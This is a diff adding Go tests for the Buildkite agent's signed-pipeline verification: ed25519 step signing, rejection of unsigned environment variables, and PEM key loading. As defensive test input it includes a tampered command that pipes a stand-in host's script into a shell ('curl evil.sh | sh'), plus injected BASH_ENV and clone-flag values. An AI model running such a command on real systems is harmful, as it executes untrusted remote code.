@@ -0,0 +1,209 @@
+package agent
+
+import (
+	"crypto/rand"
+	"encoding/pem"
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/buildkite/agent/api"
+	"github.com/stretchr/testify/assert"
+	"golang.org/x/crypto/ed25519"
+)
+
+const testSignedRepository = "git@github.com:buildkite/agent.git"
+
+func signTestStep(t *testing.T, key ed25519.PrivateKey, step map[string]interface{}) map[string]interface{} {
+	signed, count, err := SignPipeline(map[string]interface{}{"steps": []interface{}{step, "wait"}}, key, testSignedRepository)
+	if err != nil {
+		t.Fatal(err)
+	}
+	assert.Equal(t, 1, count)
+
+	return signed.(map[string]interface{})["steps"].([]interface{})[0].(map[string]interface{})
+}
+
+// Returns the names of the job's environment variables and a lookup of them,
+// the way Buildkite sets them from the step
+func stepEnvLookup(step map[string]interface{}, extra map[string]string) ([]string, func(string) (string, bool)) {
+	env := map[string]string{}
+	for name, value := range step["env"].(map[string]interface{}) {
+		env[name] = value.(string)
+	}
+	for name, value := range extra {
+		env[name] = value
+	}
+
+	names := []string{}
+	for name := range env {
+		names = append(names, name)
+	}
+
+	return names, func(name string) (string, bool) {
+		value, ok := env[name]
+		return value, ok
+	}
+}
+
+func TestSignedStepsCanBeVerified(t *testing.T) {
+	t.Parallel()
+
+	public, private, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	step := signTestStep(t, private, map[string]interface{}{
+		"label":    "test",
+		"commands": []interface{}{"make deps", "make test"},
+		"env":      map[string]interface{}{"LLAMAS": "yes", "COUNT": float64(3)},
+		"plugins": map[string]interface{}{
+			"github.com/buildkite-plugins/docker-buildkite-plugin#v1.0.0": map[string]interface{}{"image": "golang"},
+			"github.com/buildkite-plugins/llamas-buildkite-plugin#v2.0.0": map[string]interface{}{},
+		},
+	})
+
+	// Buildkite gives the job a list of plugins, in whatever order, and adds
+	// environment variables of it's own
+	plugins := `[
+		{"github.com/buildkite-plugins/llamas-buildkite-plugin#v2.0.0": {}},
+		{"github.com/buildkite-plugins/docker-buildkite-plugin#v1.0.0": {"image": "golang"}}
+	]`
+	names, lookup := stepEnvLookup(step, map[string]string{"BUILDKITE_BRANCH": "main", "BUILDKITE_AGENT_META_DATA_QUEUE": "default"})
+
+	assert.NoError(t, VerifyStepSignature(public, testSignedRepository, "make deps\nmake test", plugins, names, lookup))
+
+	// Anything that was signed being changed fails verification
+	assert.Error(t, VerifyStepSignature(public, testSignedRepository, "make deps\ncurl evil.sh | sh", plugins, names, lookup))
+	assert.Error(t, VerifyStepSignature(public, "git@github.com:llamas/agent.git", "make deps\nmake test", plugins, names, lookup))
+	assert.Error(t, VerifyStepSignature(public, testSignedRepository, "make deps\nmake test", `[{"github.com/buildkite-plugins/docker-buildkite-plugin#v1.0.0":{"image":"evil"}}]`, names, lookup))
+	names, changed := stepEnvLookup(step, map[string]string{"LLAMAS": "no"})
+	assert.Error(t, VerifyStepSignature(public, testSignedRepository, "make deps\nmake test", plugins, names, changed))
+
+	// As does a different key
+	other, _, _ := ed25519.GenerateKey(rand.Reader)
+	assert.Error(t, VerifyStepSignature(other, testSignedRepository, "make deps\nmake test", plugins, names, lookup))
+}
+
+func TestStepsWithUnsignedEnvironmentFailVerification(t *testing.T) {
+	t.Parallel()
+
+	public, private, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	step := signTestStep(t, private, map[string]interface{}{
+		"command": "make test",
+		"env":     map[string]interface{}{"LLAMAS": "yes"},
+	})
+
+	// Variables added to the job after it was signed, i.e. with the API,
+	// could change what the signed command does
+	for _, name := range []string{"BASH_ENV", "BUILDKITE_GIT_CLONE_FLAGS", "BUILDKITE_DOCKER"} {
+		names, lookup := stepEnvLookup(step, map[string]string{name: "evil", "BUILDKITE_BRANCH": "main"})
+		assert.EqualError(t, VerifyStepSignature(public, testSignedRepository, "make test", "", names, lookup),
+			"The job's environment has variables that weren't signed with its step: "+name)
+	}
+}
+
+func TestPipelineEnvironmentIsSignedWithEachStep(t *testing.T) {
+	t.Parallel()
+
+	public, private, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	pipeline := map[string]interface{}{
+		"env":   map[string]interface{}{"LLAMAS": "yes", "ALPACAS": "no"},
+		"steps": []interface{}{map[string]interface{}{"command": "make test", "env": map[string]interface{}{"ALPACAS": "yes"}}},
+	}
+	signed, count, err := SignPipeline(pipeline, private, testSignedRepository)
+	if err != nil {
+		t.Fatal(err)
+	}
+	assert.Equal(t, 1, count)
+
+	step := signed.(map[string]interface{})["steps"].([]interface{})[0].(map[string]interface{})
+	names, lookup := stepEnvLookup(step, map[string]string{"LLAMAS": "yes"})
+	assert.NoError(t, VerifyStepSignature(public, testSignedRepository, "make test", "", names, lookup))
+
+	_, lookup = stepEnvLookup(step, map[string]string{"ALPACAS": "no"})
+	assert.Error(t, VerifyStepSignature(public, testSignedRepository, "make test", "", names, lookup))
+}
+
+func TestUnsignedStepsFailVerification(t *testing.T) {
+	t.Parallel()
+
+	public, _, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	lookup := func(string) (string, bool) { return "", false }
+	assert.EqualError(t, VerifyStepSignature(public, testSignedRepository, "make test", "", nil, lookup), "The job's step isn't signed")
+}
+
+func TestLoadingSigningKeys(t *testing.T) {
+	t.Parallel()
+
+	dir, err := ioutil.TempDir("", "signing-keys")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+
+	public, private, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	// The same encoding that openssl writes
+	privatePath := filepath.Join(dir, "private.pem")
+	publicPath := filepath.Join(dir, "public.pem")
+	writePEM(t, privatePath, "PRIVATE KEY", append(append([]byte{}, ed25519PrivateKeyPrefix...), private[:32]...))
+	writePEM(t, publicPath, "PUBLIC KEY", append(append([]byte{}, ed25519PublicKeyPrefix...), public...))
+
+	loadedPrivate, err := LoadSigningKey(privatePath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	assert.Equal(t, private, loadedPrivate)
+
+	loadedPublic, err := LoadVerificationKey(publicPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	assert.Equal(t, public, loadedPublic)
+
+	// The keys can't be mixed up
+	_, err = LoadSigningKey(publicPath)
+	assert.Error(t, err)
+	_, err = LoadVerificationKey(privatePath)
+	assert.Error(t, err)
+}
+
+func writePEM(t *testing.T, path string, blockType string, der []byte) {
+	data := pem.EncodeToMemory(&pem.Block{Type: blockType, Bytes: der})
+	if err := ioutil.WriteFile(path, data, 0600); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestCreateEnvironmentSaysWhichVariablesCameFromTheJob(t *testing.T) {
+	t.Parallel()
+
+	runner := &JobRunner{
+		Agent:              &api.Agent{},
+		AgentConfiguration: &AgentConfiguration{PipelineVerificationKey: "/etc/buildkite-agent/verification-key.pem"},
+		Job:                &api.Job{Env: map[string]string{"LLAMAS": "yes", "BUILDKITE_BRANCH": "main"}},
+	}
+
+	env := runner.createEnvironment()
+
+	// Not the agent's own variables, which aren't signed
+	assert.Contains(t, env, JobEnvNamesEnv+"=BUILDKITE_BRANCH,LLAMAS")
+}